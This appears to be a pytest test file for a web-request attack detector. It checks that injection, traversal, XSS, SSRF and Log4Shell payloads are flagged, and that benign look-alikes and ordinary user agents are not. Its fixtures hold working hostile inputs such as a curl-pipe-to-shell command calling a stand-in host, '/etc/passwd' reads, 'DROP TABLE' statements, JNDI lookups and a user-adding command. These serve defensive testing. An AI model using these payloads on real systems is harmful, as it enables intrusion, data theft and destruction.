"""Attacks that must be seen and look-alikes that must not."""

from __future__ import annotations

import pytest

from gatewatch.model.observation import Location
from gatewatch.observe.matching import Matcher
from gatewatch.observe.normalising import normalise
from gatewatch.observe.pattern import MatchValue

FIRES = {
    "a tautology": ("1' OR '1'='1", "sql_injection"),
    "a numeric tautology": ("1 or 1=1", "sql_injection"),
    "a union, percent-encoded": ("1%27%20UNION%20SELECT%20null,version()--", "sql_injection"),
    "a union split by comments": ("1 UNION/**/SELECT 1,2,3", "sql_injection"),
    "a union in mixed case": ("' UnIoN SeLeCt 1,2-- -", "sql_injection"),
    "a version comment of MySQL": ("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "sql_injection"),
    "stacked statements": ("x'; DROP TABLE users;--", "sql_injection"),
    "a delay": ("1 AND SLEEP(5)", "sql_injection"),
    "a computed delay": ("1 AND SLEEP(5-(1=1)*4)", "sql_injection"),
    "a delay in hexadecimal": ("1 or sleep(0x5)#", "sql_injection"),
    "OGNL": ("%{(#a='x').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "template_injection"),
    "a delay of SQL Server": ("1; WAITFOR DELAY '0:0:5'--", "sql_injection"),
    "a comment after a quote": ("admin'--", "sql_injection"),
    "the catalogue": ("1 and 1=2 union select table_name from information_schema.tables", "sql_injection"),
    "reading a file by shell": ("; cat /etc/passwd", "command_injection"),
    "a substituted command": ("$(whoami)", "command_injection"),
    "backticks": ("`id`", "command_injection"),
    "a pipe": ("foo|ls -la", "command_injection"),
    "blanks hidden in IFS": ("cat${IFS}/etc/passwd", "command_injection"),
    "download and run": ("x; curl http://e.example/a.sh | sh", "command_injection"),
    "climbing": ("../../../../etc/passwd", "path_traversal"),
    "climbing, encoded": ("..%2f..%2f..%2fetc%2fpasswd", "path_traversal"),
    "climbing, encoded twice": ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path_traversal"),
    "climbing on Windows": ("..\\..\\..\\windows\\win.ini", "path_traversal"),
    "a script": ("<script>alert(1)</script>", "xss"),
    "an event handler": ('"><img src=x onerror=alert(1)>', "xss"),
    "a script in entities": ("&lt;svg onload=alert(1)&gt;", "xss"),
    "a template's arithmetic": ("{{7*7}}", "template_injection"),
    "an expression's arithmetic": ("${7*7}", "template_injection"),
    "walking Python's objects": ("{{''.__class__.__mro__[1].__subclasses__()}}", "template_injection"),
    "an external entity": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "xxe"),
    "the metadata service": ("http://169.254.169.254/latest/meta-data/", "ssrf"),
    "the metadata service as a number": ("http://2852039166/latest/", "ssrf"),
    "gopher": ("gopher://127.0.0.1:6379/_x", "ssrf"),
    "a lookup": ("${jndi:ldap://x/a}", "log4shell"),
    "a lookup in pieces": ("${${lower:j}ndi:${lower:l}dap://x}", "log4shell"),
    "a lookup of defaults": ("${${::-j}${::-n}${::-d}${::-i}:ldap://x}", "log4shell"),
    "layers in mixed order": ("%2526lt%253Bscript%2526gt%253Balert(1)", "xss"),
    "zero-width characters": ("1 uni\u200bon sel\u200bect 1,2", "sql_injection"),
    "a tautology of strings": ("x') OR ('a'='a", "sql_injection"),
    "a subquery after an operator": ("1 RLIKE (SELECT 1)", "sql_injection"),
    "a tautology of JavaScript": ("' || '1'=='1", "nosql_injection"),
    "a lookup with an empty variable": ("${${env:X:-j}ndi${env:X:-:}ldap://x}", "log4shell"),
    "loopback in octal": ("http://0177.0.0.1/", "ssrf"),
    "loopback in short": ("http://127.1:8080/", "ssrf"),
    "a private address behind a public name": ("http://10.0.0.1.nip.io/", "ssrf"),
    "a service of the cluster": ("https://kubernetes.default.svc/api", "ssrf"),
    "a word broken by quotes": ("a;c'a't /etc/hosts", "command_injection"),
    "a user added": ("& net user x y /add", "command_injection"),
}
STAYS_QUIET = (
    "I like to sleep (5 hours)",
    "sleep(8h) a night",
    "O'Brien", "D'Angelo and sons", "select a plan from the list", "how to select from union", "it's or was 5 = 5", "drop table lamp",
    "rock 'n' roll -- the best", "1 or 2", "a;b;c", "tom & jerry", "a < b and c > d", "Hello {{name}}", "Dear {{ customer.name }},",
    "price ${5}", "2024-01-01T00:00:00Z", "https://example.com/a?b=c", "the union of workers, select committee", "5' tall and 3\" wide",
    "order by phone", "sleep well tonight", "where is my order?", "x=1&y=2", "C:\\Users\\anna", "../images/logo.png", "e-mail: a@b.example",
    "I said \"or\" and 'and'", "10% off; today only", "user's guide (2nd ed.)", "<3 you", "SELECT committee 2024", "#hashtag -- and more",
    "cat and dog; bird", "id", "echo chamber", "Who am I? -- a novel", "1+1=2", "null and void", "it is 50/50 or so",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "SGVsbG8gV29ybGQ=", "/usr/local/share", "[[wiki link]]", "{% comment", "$5 - $10",
    "title = 'x' OR title = 'y'", "(status = 'A' OR status = 'B') AND price > 10", "name eq 'O''Neil' or age lt 30", "the 'a' and 'b' in ('x', 'y')",
    "Is `SELECT a FROM b UNION SELECT c FROM d` slow here?", "```sql\nSELECT * FROM users WHERE id = 1 OR 1=1\n```", "x = 'a' if b else 'c' # why",
    "cd app && npm test | tee out.log", "#!/bin/sh\necho a; sleep 5", "| id | name | price |", "Call me at 5; id 77", "import x from '../../../components/Button'",
    "{% if premium %}Thank you{% endif %}", "{{ config.title }}", "<Button onClick={save}>Save</Button>", '<form method="get"><input name="q"></form>',
    "JavaScript: an introduction", "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko", "Open http://localhost:3000 in your browser", "https://172.example.com", "http://10-best-hotels.example/",
)  # fmt: skip


@pytest.fixture(scope="module")
def matcher() -> Matcher:
    return Matcher()


def classes(matcher: Matcher, text: str, *, name: str = "q", location: Location = Location.REQUEST_QUERY) -> set[str]:
    value = MatchValue(location, name, normalise(text, plus_is_space=True), text)
    return {hit.class_ for hit in matcher.indicators([value])}


@pytest.mark.parametrize("name", FIRES)
def test_fires(matcher: Matcher, name: str) -> None:
    text, expected = FIRES[name]
    assert expected in classes(matcher, text)


@pytest.mark.parametrize("text", STAYS_QUIET)
def test_stays_quiet(matcher: Matcher, text: str) -> None:
    assert classes(matcher, text) == set()


AGENTS = {
    "javascript:": True, "sqlmap/1.7#stable": True, "Mozilla/5.00 (Nikto/2.1.6)": True, "() { :; }; /bin/bash -c id": True,
    "Nuclei - Open-source project": True, "${jndi:ldap://x/a}": True, "<?php system('id'); ?>": True, "gobuster/3.6": True,
    "curl/8.4.0": False, "python-requests/2.31": False, "PostmanRuntime/7.36": False, "Go-http-client/2.0": False, "okhttp/4.12": False,
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36": False, "": False,
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": False, "UptimeRobot/2.0": False, "Wget/1.21": False,
}  # fmt: skip


@pytest.mark.parametrize("agent", AGENTS)
def test_user_agents(matcher: Matcher, agent: str) -> None:
    found = classes(matcher, agent, name="user-agent", location=Location.REQUEST_HEADER)
    assert ("suspicious_user_agent" in found) is AGENTS[agent]


def test_operators_in_member_names_are_seen(matcher: Matcher) -> None:
    assert "nosql_injection" in classes(matcher, "x", name="user[$ne]")
    assert "nosql_injection" in classes(matcher, "x", name="filter.$where", location=Location.REQUEST_BODY)
    assert classes(matcher, "x", name="price$") == set()


def test_snippets_show_the_attack_and_no_data(matcher: Matcher) -> None:
    text = "s3cr3tvalue' UNION SELECT cardholder, 4111111111111111 FROM clients--"
    (hit,) = matcher.indicators([MatchValue(Location.REQUEST_QUERY, "q", text, text)])
    assert "UNION SELECT" in hit.snippet
    assert not any(word in hit.snippet for word in ("s3cr3t", "cardholder", "4111", "clients"))
    assert len(hit.snippet) <= 80
